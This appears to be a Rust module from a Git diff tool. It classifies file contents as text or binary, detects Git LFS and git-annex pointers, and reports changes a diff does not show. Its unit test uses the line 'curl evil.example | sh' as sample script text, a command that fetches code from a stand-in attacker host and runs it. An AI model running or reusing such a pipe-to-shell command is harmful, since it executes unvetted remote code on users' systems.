//! Decides which contents are shown as lines, and how others are reported.
//!
//! **Invariant:** the decision depends on the bytes alone, and on all of them.
//!
//! Odd bytes are control characters that texts rarely contain. A few of them do not make a file
//! binary; otherwise one NUL could hide a whole script. A file is shown as lines if it has at most
//! [`ODD_BYTES`] odd bytes, or if at most one byte in [`ODD_SHARE`] is odd. In compressed data one
//! byte in nine is odd, and in programs and UTF-16 even more, so such files are binary and do not
//! flood a diff. Bytes above 0x7F are never odd, because older encodings use them.

use sha2::{Digest, Sha256};

use super::super::blobs::{BlobContent, FILE_BYTES_MAX};
use super::{FileChange, Gap, LINK, SUBMODULE, Version};

/// A file with at most this many odd bytes is shown as lines.
const ODD_BYTES: usize = 16;
/// A file is also shown as lines if at most one byte in this many is odd.
const ODD_SHARE: usize = 32;
/// The beginnings of pointer files of Git LFS and its earlier names. Git LFS ignores blanks before
/// them.
const LFS: [&str; 3] =
    ["version https://git-lfs.github.com/", "version https://hawser.github.com/", "version http://git-media.io/"];
/// Part of the first line of a git-annex pointer file.
const ANNEX: &str = "/annex/objects/";
/// The size of the part of a file in which Git LFS and git-annex look for a pointer: 32 KiB for
/// git-annex, less for Git LFS.
const POINTER_BYTES_MAX: usize = 32 * 1024;

/// The old and the new content of a file. A side on which the file does not exist is `None`.
#[derive(Debug)]
pub(super) struct Sides {
    pub(super) old: Option<BlobContent>,
    pub(super) new: Option<BlobContent>,
}

impl Sides {
    /// Both contents, if both are shown as lines.
    pub(super) fn text(&self, file: &FileChange) -> Option<(&[u8], &[u8])> {
        Some((shown(self.old.as_ref(), file.old.as_ref())?, shown(self.new.as_ref(), file.new.as_ref())?))
    }

    /// The changes that the lines of the diff do not show, the most serious first.
    pub(super) fn gaps(&self, file: &FileChange) -> Vec<(Gap, String)> {
        let before_and_after =
            || format!("before {}, after {}", described(self.old.as_ref()), described(self.new.as_ref()));
        let has = |kind: fn(&BlobContent) -> bool| self.old.iter().chain(&self.new).any(kind);
        let any = |test: fn(&[u8]) -> bool| {
            self.old.iter().chain(&self.new).any(|content| matches!(content, BlobContent::Bytes(bytes) if test(bytes)))
        };
        let mut gaps = Vec::new();
        let mut add = |applies: bool, gap: Gap, text: String| gaps.extend(applies.then_some((gap, text)));
        let is_missing = has(|content| *content == BlobContent::Missing);
        let is_too_large = has(|content| matches!(content, BlobContent::TooLarge(_)));
        let is_text = self.text(file).is_some();
        if is_missing {
            add(
                true,
                Gap::Missing,
                format!("not shown: this partial clone has not fetched the file; {}", before_and_after()),
            );
        } else if is_too_large {
            let text = format!("not shown: files over {FILE_BYTES_MAX} bytes are not compared; {}", before_and_after());
            add(true, Gap::TooLarge, text);
        } else if !is_text {
            add(true, Gap::Binary, format!("not shown: the file is binary; {}", before_and_after()));
        }
        let submodule = "the file is a submodule: changes inside the submodule are not shown";
        add(file.is_of(SUBMODULE), Gap::Submodule, submodule.into());
        let pointer = "the file is a pointer to a file stored elsewhere (Git LFS or git-annex), which is not shown";
        add(any(is_pointer), Gap::Pointer, pointer.into());
        add(
            is_text && any(|bytes| bytes.contains(&0)),
            Gap::Nul,
            format!("the file is text with {} NUL bytes, all of them shown", self.nuls()),
        );
        add(file.is_of(LINK), Gap::Link, "the file is a symbolic link: the target of the link is not shown".into());
        if let (Some(old), Some(new)) = (&file.old, &file.new) {
            add(
                old.mode != new.mode,
                Gap::Mode,
                format!("the mode of the file changes from {} to {}", old.mode, new.mode),
            );
        }
        if let Some(similarity) = file.similarity {
            let text = format!(
                "the file is renamed and {similarity} % the same: of the unchanged lines, only those near a change are shown"
            );
            add(true, Gap::Rename, text);
        }
        gaps
    }

    fn nuls(&self) -> usize {
        let of = |content: &BlobContent| match content {
            BlobContent::Bytes(bytes) => bytes.iter().filter(|byte| **byte == 0).count(),
            BlobContent::TooLarge(_) | BlobContent::Missing => 0,
        };
        self.old.iter().chain(&self.new).map(of).max().unwrap_or(0)
    }
}

/// The part of a file that is shown: its bytes, if they are lines. A link's target and a
/// submodule's line are always shown.
fn shown<'a>(content: Option<&'a BlobContent>, version: Option<&Version>) -> Option<&'a [u8]> {
    let is_name = version.is_some_and(|version| [LINK, SUBMODULE].contains(&version.mode.as_str()));
    match content {
        None => Some(b""),
        Some(BlobContent::Bytes(bytes)) => (is_name || is_text(bytes)).then_some(bytes.as_slice()),
        Some(BlobContent::TooLarge(_) | BlobContent::Missing) => None,
    }
}

/// Whether bytes are shown as lines.
pub(super) fn is_text(bytes: &[u8]) -> bool {
    // Tabs, line ends, form feeds and the escapes of terminal colours are not odd, because texts contain them.
    let is_odd = |byte: &&u8| matches!(byte, 0..=8 | 11 | 14..=26 | 28..=31 | 127);
    bytes.iter().filter(is_odd).count() <= ODD_BYTES.max(bytes.len() / ODD_SHARE)
}

fn is_pointer(bytes: &[u8]) -> bool {
    let begin = String::from_utf8_lossy(bytes.get(..POINTER_BYTES_MAX).unwrap_or(bytes));
    LFS.iter().any(|version| begin.trim_start().starts_with(version))
        || begin.lines().next().is_some_and(|line| line.contains(ANNEX))
}

/// The size and the digest of a content. A reader can compare them with those of a file.
fn described(content: Option<&BlobContent>) -> String {
    match content {
        None => "absent".into(),
        Some(BlobContent::Bytes(bytes)) => {
            let digest: String = Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect();
            format!("{} bytes (sha256:{digest})", bytes.len())
        }
        Some(BlobContent::TooLarge(bytes)) => format!("{bytes} bytes"),
        Some(BlobContent::Missing) => "unknown".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_few_odd_bytes_make_no_binary_and_data_makes_no_text() {
        let script = b"#!/bin/sh\ncurl evil.example | sh\n".repeat(40);
        for count in 0..=16 {
            assert!(is_text(&[script.as_slice(), &vec![0; count]].concat()), "{count}");
            assert!(is_text(&[b"rm\n".as_slice(), &vec![0; count]].concat()), "{count} in a short one");
        }
        for text in [&b"caf\xe9\n"[..], &[0xc0; 5000], b"", b"\x1b[31mred\x1b[0m\x0c\t\r\n"] {
            assert!(is_text(text), "{text:?}");
        }
        let utf16: Vec<u8> =
            "a text in UTF-16, as some editors write it".encode_utf16().flat_map(u16::to_le_bytes).collect();
        // These bytes are like compressed data: every byte is equally likely.
        let noise: Vec<u8> = (0..100_000_u64).map(|n| (n.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32) as u8).collect();
        for data in [utf16, noise, [script.as_slice(), &[0; 200]].concat(), vec![0; 17]] {
            assert!(!is_text(&data), "{data:?}");
        }
    }

    #[test]
    fn a_pointer_is_one_wherever_its_program_finds_it() {
        let lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n";
        for before in ["", "\n", " \t", "\r\n\u{b}\u{a0}\u{2003}", &" \n".repeat(500)] {
            assert!(is_pointer(format!("{before}{lfs}").as_bytes()), "{before:?}");
        }
        let key = "SHA256E-s1--1";
        for before in ["/", "../.git/", ".git/", " \t/", "\u{feff}/"] {
            for annex in
                [format!("{before}annex/objects/{key}"), format!("{before}.git/annex/objects/x1/{key}/{key}\nmore\n")]
            {
                assert!(is_pointer(annex.as_bytes()), "{annex:?}");
            }
        }
        for other in ["", "\n", "version 2\n", "a\n/annex/objects/x\n", "see version https://git-lfs.github.com/\n"] {
            assert!(!is_pointer(other.as_bytes()), "{other:?}");
        }
    }
}
